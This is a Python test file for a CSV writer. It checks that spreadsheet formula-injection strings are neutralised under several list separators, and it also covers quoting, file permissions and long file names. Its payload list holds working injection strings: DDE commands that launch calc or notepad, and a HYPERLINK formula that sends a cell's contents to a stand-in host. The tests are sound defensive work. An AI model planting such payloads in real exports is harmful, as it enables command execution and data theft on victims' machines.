"""CSV stays inert whatever list separator the spreadsheet splits on, and keeps file modes."""

from __future__ import annotations

import os
import re
import stat

import pandas as pd
import pytest

from coreclaw_pandas.writers import to_csv

from .helpers import read_csv_rows

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Real CSV-injection payloads, each hidden behind a list separator Excel may split on
# (`;` in DE/FR/NL/ES/IT locales, `,` in EN, TAB when pasted).
PAYLOADS = [
    "x;=cmd|' /C calc'!A0",
    "name;=HYPERLINK(\"http://x.invalid/?d=\"&A1,\"open\")",
    "a;+cmd|' /C notepad'!A0",
    "b;-2+3+cmd|' /C calc'!A0",
    "c;@SUM(1+9)*cmd|' /C calc'!A0",
    "d,=cmd|' /C calc'!A0",
    "e\t=cmd|' /C calc'!A0",
    "f;\t=1+1",
    "g,;=1+1",
    "h\n=1+1",
]


def live_cells(text: str) -> list[str]:
    """Cells a naive split of each line on `;`, `,` or TAB would show starting with a trigger."""
    found = []
    for line in re.split(r"\r\n|\r|\n", text):
        for sep in (";", ",", "\t"):
            for cell in line.split(sep):
                if cell.lstrip('"').startswith(TRIGGERS):
                    found.append(cell)
    return found


def test_payloads_are_inert_under_every_separator(out_dir):
    path = out_dir / "p.csv"
    to_csv(pd.DataFrame({"name": PAYLOADS, "n": range(len(PAYLOADS))}), path)
    text = path.read_text(encoding="utf-8")
    assert live_cells(text) == []
    # The quote marks are the only change a reader sees.
    rows = read_csv_rows(path)
    assert [r[0] for r in rows[1:]] == [
        re.sub(r"(?<=[;,\t\r\n])(?=[=+\-@\t\r])", "'", p) for p in PAYLOADS
    ]


def test_every_text_field_is_quoted(out_dir):
    path = out_dir / "q.csv"
    to_csv(pd.DataFrame({"t": ["plain", "a;b"], "n": [1, 2]}), path)
    assert path.read_text(encoding="utf-8").splitlines() == ['"t","n"', '"plain",1', '"a;b",2']


def test_escape_formulas_false_keeps_text_but_still_quotes(out_dir):
    path = out_dir / "raw.csv"
    to_csv(pd.DataFrame({"t": ["x;=1+1"]}), path, escape_formulas=False)
    assert path.read_text(encoding="utf-8").splitlines() == ['"t"', '"x;=1+1"']


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_reexport_keeps_a_private_file_private(out_dir):
    path = out_dir / "private.csv"
    path.write_text("old", encoding="utf-8")
    path.chmod(0o600)
    to_csv(pd.DataFrame({"t": ["new"]}), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "new" in path.read_text(encoding="utf-8")


def test_a_240_character_file_name_works(out_dir):
    path = out_dir / ("r" * 236 + ".csv")
    assert len(path.name) == 240
    to_csv(pd.DataFrame({"t": ["x"]}), path)
    assert read_csv_rows(path) == [["t"], ["x"]]
    assert [p.name for p in out_dir.iterdir()] == [path.name]
